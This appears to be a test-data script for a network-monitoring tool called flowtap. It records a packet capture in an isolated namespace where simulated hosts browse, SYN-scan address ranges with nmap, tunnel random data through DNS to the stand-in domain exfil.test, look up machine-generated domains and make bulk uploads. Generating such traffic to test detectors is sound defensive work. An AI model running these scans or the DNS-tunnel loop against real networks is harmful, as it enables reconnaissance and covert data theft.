#!/usr/bin/env bash
# Records the capture the intelligence drivers are tested on: about 70 seconds of real traffic in a
# network namespace in which some LAN hosts browse and others misbehave.
#
#   192.168.77.2   browses all along: DNS lookups, HTTPS and HTTP to a few servers
#   192.168.77.5   SYN-scans ports 1-1000 of 203.0.113.20 (nmap, 40 probes/s, about 25 s)
#   192.168.77.6   SYN-scans port 3389 of 198.51.100.1-120 (nmap, 10 probes/s, about 12 s)
#   192.168.77.7   tunnels data through DNS: 150 queries of 52-character base32 labels under
#                  t.exfil.test, 10 a second
#   192.168.77.8   looks up machine-generated names and opens TLS to one of them
#   192.168.77.9   uploads 8 kB every 5 s, then 1.5 MB at once
#   192.168.77.10  appears once, near the end: a new device
#
# Client and servers talk over the namespace's loopback (MTU 1500, offloads off, so packets are
# wire-sized); 198.51.100.0/24 is routed to loopback as a whole so that every scanned address
# answers (with a reset). tag-frames.py then gives each LAN host its own MAC address and the public
# addresses a gateway's.
#
#   sudo testdata/scripts/record-intel.sh <out.pcap>
#
# Needs root and Debian packages: iproute2 tcpdump nmap nginx-light dnsmasq-base curl dnsutils
# socat ethtool openssl python3.
set -euo pipefail

OUT="$(realpath -m "${1:?usage: record-intel.sh <out.pcap>}")"
N="ftintel$$"
WORK="$(mktemp -d /tmp/flowtap-record.XXXXXX)"
chmod 755 "$WORK"

cleanup() {
  set +e
  [[ -f "$WORK/pids" ]] && while read -r p; do kill "$p" 2>/dev/null; done < "$WORK/pids"
  sleep 0.5
  ip netns del "$N" 2>/dev/null
  rm -rf "/etc/netns/$N" "$WORK"
}
trap cleanup EXIT

inn() { ip netns exec "$N" "$@"; }
bg_srv() { inn "$@" & echo $! >> "$WORK/pids"; }

# --- addresses -----------------------------------------------------------------------------------
ip netns add "$N"
inn ip link set lo mtu 1500
inn ethtool -K lo tso off gso off gro off >/dev/null 2>&1 || true
inn ip link set lo up
for a in 192.168.77.2 192.168.77.5 192.168.77.6 192.168.77.7 192.168.77.8 192.168.77.9 \
         192.168.77.10 203.0.113.10 203.0.113.11 203.0.113.12 203.0.113.20 203.0.113.30 \
         203.0.113.53; do
  inn ip addr add "$a/32" dev lo
done
inn ip route add local 198.51.100.0/24 dev lo

# --- servers -------------------------------------------------------------------------------------
mkdir -p "$WORK/www" "$WORK/nginx/tmp"
echo "<html><body>flowtap intel</body></html>" > "$WORK/www/index.html"
head -c 60000 /dev/urandom > "$WORK/www/page.bin"
openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/CN=www.flowtap.test" \
  -addext "subjectAltName=DNS:www.flowtap.test,DNS:news.flowtap.test,DNS:shop.flowtap.test" \
  -keyout "$WORK/key.pem" -out "$WORK/cert.pem" 2>/dev/null
cat > "$WORK/nginx/nginx.conf" <<EOF
daemon off;
worker_processes 1;
pid $WORK/nginx/nginx.pid;
error_log $WORK/nginx/error.log;
events { worker_connections 256; }
http {
  access_log off;
  client_body_temp_path $WORK/nginx/tmp;
  proxy_temp_path $WORK/nginx/tmp;
  fastcgi_temp_path $WORK/nginx/tmp;
  uwsgi_temp_path $WORK/nginx/tmp;
  scgi_temp_path $WORK/nginx/tmp;
  server {
    listen 203.0.113.10:80; listen 203.0.113.11:80; listen 203.0.113.12:80;
    listen 203.0.113.20:80;
    listen 203.0.113.10:443 ssl; listen 203.0.113.11:443 ssl; listen 203.0.113.12:443 ssl;
    ssl_certificate $WORK/cert.pem;
    ssl_certificate_key $WORK/key.pem;
    ssl_protocols TLSv1.2 TLSv1.3;
    root $WORK/www;
  }
}
EOF
bg_srv nginx -c "$WORK/nginx/nginx.conf"

cat > "$WORK/dnsmasq.conf" <<EOF
no-resolv
no-hosts
listen-address=203.0.113.53
bind-interfaces
address=/www.flowtap.test/203.0.113.10
address=/news.flowtap.test/203.0.113.11
address=/shop.flowtap.test/203.0.113.12
address=/exfil.test/203.0.113.99
address=/com/203.0.113.10
EOF
bg_srv dnsmasq --keep-in-foreground --conf-file="$WORK/dnsmasq.conf" --pid-file="$WORK/dnsmasq.pid"
bg_srv socat -u TCP-LISTEN:9000,bind=203.0.113.30,fork,reuseaddr OPEN:/dev/null

mkdir -p "/etc/netns/$N"
printf 'nameserver 203.0.113.53\n' > "/etc/netns/$N/resolv.conf"
sleep 1.5

# --- capture -------------------------------------------------------------------------------------
RAW="$WORK/raw.pcap"
inn tcpdump -q -i lo -s 0 -U -w "$RAW" >/dev/null 2>"$WORK/tcpdump.log" & TCPDUMP=$!
echo "$TCPDUMP" >> "$WORK/pids"
sleep 1

CURL=(curl -s -o /dev/null --cacert "$WORK/cert.pem" --max-time 10)
browse() {
  local h
  for ((i = 0; i < 20; i++)); do
    for h in www news shop; do
      inn dig -b 192.168.77.2 +short "$h.flowtap.test" A >/dev/null
    done
    inn "${CURL[@]}" --interface 192.168.77.2 https://www.flowtap.test/page.bin
    inn "${CURL[@]}" --interface 192.168.77.2 https://news.flowtap.test/
    inn "${CURL[@]}" --interface 192.168.77.2 http://shop.flowtap.test/
    sleep 3
  done
}
uploads() {
  for ((i = 0; i < 10; i++)); do
    head -c 8000 /dev/urandom | inn socat -u - TCP:203.0.113.30:9000,bind=192.168.77.9
    sleep 5
  done
  head -c 1500000 /dev/urandom | inn socat -u - TCP:203.0.113.30:9000,bind=192.168.77.9
}
tunnel() {
  for ((i = 0; i < 150; i++)); do
    label="$(head -c 32 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z')"
    inn dig -b 192.168.77.7 +short +tries=1 +time=1 "$label.t.exfil.test" TXT >/dev/null || true
    sleep 0.1
  done
}

browse & BROWSE=$!
sleep 2
uploads & UPLOADS=$!
sleep 3
inn nmap -sS -Pn -n -e lo -S 192.168.77.5 --max-rate 40 -p 1-1000 203.0.113.20 >/dev/null
sleep 2
inn nmap -sS -Pn -n -e lo -S 192.168.77.6 --max-rate 10 -p 3389 198.51.100.1-120 >/dev/null
tunnel
for name in xkqzvbnmtrwplgh.com q7x2kz9vbw4mtrp.com bnhgtrfvcdxswqa.com; do
  inn dig -b 192.168.77.8 +short "$name" A >/dev/null
done
inn curl -s -o /dev/null -k --max-time 10 --interface 192.168.77.8 \
  --resolve xkqzvbnmtrwplgh.com:443:203.0.113.10 https://xkqzvbnmtrwplgh.com/
wait "$UPLOADS"
inn "${CURL[@]}" --interface 192.168.77.10 https://www.flowtap.test/
wait "$BROWSE"
sleep 1
kill -TERM "$TCPDUMP"
wait "$TCPDUMP" 2>/dev/null || true
python3 "$(dirname "$0")/tag-frames.py" "$RAW" "$OUT"
echo "recorded $(tcpdump -r "$OUT" 2>/dev/null | wc -l) packets into $OUT" >&2
